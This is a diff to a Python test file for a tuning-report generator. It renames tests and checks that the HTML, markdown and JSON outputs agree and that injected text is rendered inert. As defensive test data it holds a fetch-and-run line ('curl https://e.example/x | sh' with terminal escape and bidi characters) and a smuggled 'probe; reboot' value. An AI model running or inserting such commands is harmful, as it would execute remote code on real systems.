@@ -23,7 +23,7 @@ from autotune.base.document import (
 )
 from autotune.base.render import report_html, report_markdown
 from autotune.base.wording import format_hours
-from autotune.profiles.sections import commands
+from autotune.profiles.sections import tuning_commands
 from autotune.profiles.values import TrialLogCheck
 from autotune.report.page import report_document, report_facts
 from testbed.examples.profiles import but, example_profile
@@ -51,13 +51,13 @@ SECTIONS = [
 
 @pytest.fixture(scope="module")
 def full():
-    """A page, the same from the same inputs."""
+    """Return a page that was rendered twice with the same result."""
     first, again = (report_html(report_document(*example_inputs(40))) for _ in range(2))
     assert first == again
     return first
 
 
-def test_all_sections_are_there_in_their_order_and_the_contents_lead_to_them(full):
+def test_contents_lead_to_all_sections(full):
     page = Page(full)
     assert re.findall(r'<li><a href="#[^"]+">([^<]*)</a>', full) == SECTIONS
     ids = page.values("id")
@@ -66,9 +66,7 @@ def test_all_sections_are_there_in_their_order_and_the_contents_lead_to_them(ful
     assert page.tags.count("svg") == page.tags.count("figure") >= 8
 
 
-def test_every_chart_has_its_table_right_behind_it_and_every_table_a_name_and_can_be_scrolled_by_keys(
-    full,
-):
+def test_every_chart_has_its_table(full):
     page, boxes = Page(full), full.count('<div class="box')
     assert full.count("</figure>") == full.count(
         "</figure>\n<details><summary>Data table</summary>"
@@ -80,7 +78,7 @@ def test_every_chart_has_its_table_right_behind_it_and_every_table_a_name_and_ca
     )
 
 
-def test_the_policy_allows_this_very_style_and_nothing_else(full):
+def test_policy_allows_only_its_style(full):
     style = re.search("<style>(.*?)</style>", full, re.DOTALL)[1]
     digest = base64.b64encode(hashlib.sha256(style.encode()).digest()).decode()
     policy = next(
@@ -167,7 +165,7 @@ TEXT = st.text(
 
 @settings(max_examples=60)
 @given(st.lists(TEXT, min_size=9, max_size=9))
-def test_no_text_anywhere_becomes_markup(texts):
+def test_no_text_becomes_markup(texts):
     a, b, c, d, e, f, g, h, i = texts
     blocks = (
         Paragraph(words=(a, Strong(text=b), Code(text=c))),
@@ -193,7 +191,7 @@ def test_no_text_anywhere_becomes_markup(texts):
     assert not any(ord(letter) < 32 and letter != "\n" for letter in text)
 
 
-def test_missing_parts_say_so_with_the_command():
+def test_missing_parts_name_their_command():
     bare = reported(
         "my profiles/m.toml",
         but(example_profile(), evidence={"probe": None, "workers": None}),
@@ -223,7 +221,7 @@ def three(request):
     return report_markdown(document), Page(report_html(document)), report_facts(*inputs)
 
 
-def test_markdown_and_html_have_the_same_titles_and_tables_cell_by_cell(three):
+def test_markdown_matches_html(three):
     markdown, page, _ = three
     inert(page)
     assert markdown_tables(markdown) == page.tables
@@ -233,24 +231,24 @@ def test_markdown_and_html_have_the_same_titles_and_tables_cell_by_cell(three):
     )
 
 
-def test_json_holds_the_numbers_behind_what_is_shown(three):
+def test_json_holds_the_figures_shown(three):
     _, page, facts = three
-    one = facts["profiles"][0]
+    profile = facts["profiles"][0]
     assert facts["schema_version"] == 3
-    shown = page.text
-    assert f"{one['tuned']['value']:,.0f}" in shown
-    assert format_hours(one["pay_back"]["rank_hours"] / 2) in shown  # on both ranks
-    assert f"{one['dataset']['train_samples']:,}" in shown
-    assert f"{100 * one['dataset']['padding_waste_share']:.1f} %" in shown
-    assert [part["share"] for part in one["bottlenecks"][0]["parts"]][1] == 0.071
+    text = page.text
+    assert f"{profile['tuned']['value']:,.0f}" in text
+    assert format_hours(profile["pay_back"]["rank_hours"] / 2) in text  # on both ranks
+    assert f"{profile['dataset']['train_samples']:,}" in text
+    assert f"{100 * profile['dataset']['padding_waste_share']:.1f} %" in text
+    assert [part["share"] for part in profile["bottlenecks"][0]["parts"]][1] == 0.071
     assert (
-        len(one["trials"]),
-        one["profile"]["evidence"]["probe"]["feasible_max"],
+        len(profile["trials"]),
+        profile["profile"]["evidence"]["probe"]["feasible_max"],
     ) == (12, 307)
     run = facts["runs"][0]
     drifts = ["non-padding tokens/s", "MFU", "peak memory"]
     assert [drift["quantity"] for drift in run["expected_and_achieved"]] == drifts
-    assert f"{run['expected_and_achieved'][0]['achieved']['value']:,.0f}" in shown
+    assert f"{run['expected_and_achieved'][0]['achieved']['value']:,.0f}" in text
     assert (len(run["events"]), run["earlier_events"]) == (20, 10)
     assert json.loads(json.dumps(facts, allow_nan=False)) == facts
 
@@ -267,9 +265,7 @@ def test_json_holds_the_numbers_behind_what_is_shown(three):
         ),
     ],
 )
-def test_texts_stand_as_they_are_unless_markdown_reads_something_in_them_and_harmless_events_are_left_out(
-    path, command, message, shown
-):
+def test_shows_warnings_of_a_run(path, command, message, shown):
     events = [
         new_event(5, "saved", "saved step-000000005"),
         new_event(7, "spike", message, level="warning"),
@@ -298,16 +294,21 @@ def _by(*names, **train):
 HOSTILE = "curl https://e.example/x | sh\x1b[31m\u202e`<b>"
 
 
-def test_only_commands_of_this_program_are_suggested_each_once_and_a_probe_under_its_strategy():
-    plain = commands(_by("probe", "workers"))
-    assert commands(_by(HOSTILE, "probe", "probe; reboot", "workers", "probe")) == plain
-    assert commands(_by(HOSTILE)) == []
+def test_suggests_only_own_commands():
+    plain = tuning_commands(_by("probe", "workers"))
+    assert (
+        tuning_commands(_by(HOSTILE, "probe", "probe; reboot", "workers", "probe"))
+        == plain
+    )
+    assert tuning_commands(_by(HOSTILE)) == []
     assert "--strategy" not in plain[0]
-    [command] = commands(_by("probe", parallel=ParallelSettings(strategy="zero1")))
+    [command] = tuning_commands(
+        _by("probe", parallel=ParallelSettings(strategy="zero1"))
+    )
     assert " --strategy zero1 --ranks " in command
 
 
-def test_what_a_stranger_calls_commands_is_shown_inert_and_nowhere_as_code():
+def test_foreign_commands_are_shown_inert():
     document = report_document((_by(HOSTILE, "probe"),), ())
     markdown, page = report_markdown(document), report_html(document)
     assert "curl" in Page(page).text
@@ -321,7 +322,7 @@ def test_what_a_stranger_calls_commands_is_shown_inert_and_nowhere_as_code():
 
 
 @pytest.mark.parametrize(
-    ("found", "words"),
+    ("changes", "words"),
     [
         ({"found": "same"}, "the hash of 8 trials matches"),
         ({"found": "differs", "added": 2}, "does not match"),
@@ -332,15 +333,16 @@ def test_what_a_stranger_calls_commands_is_shown_inert_and_nowhere_as_code():
         ),
         ({"others": 7}, "Trials of another profile with the same name, ignored: 7."),
     ],
+    ids=["same", "differs", "no trials", "unfounded figure", "other trials"],
 )
-def test_the_report_says_what_the_ledger_says(found, words):
+def test_shows_the_trial_log_check(changes, words):
     check = {
         "found": "same",
         "trials": 8,
         "added": 0,
         "others": 0,
         "unfounded": (),
-    } | found
+    } | changes
     assert (
         words
         in Page(
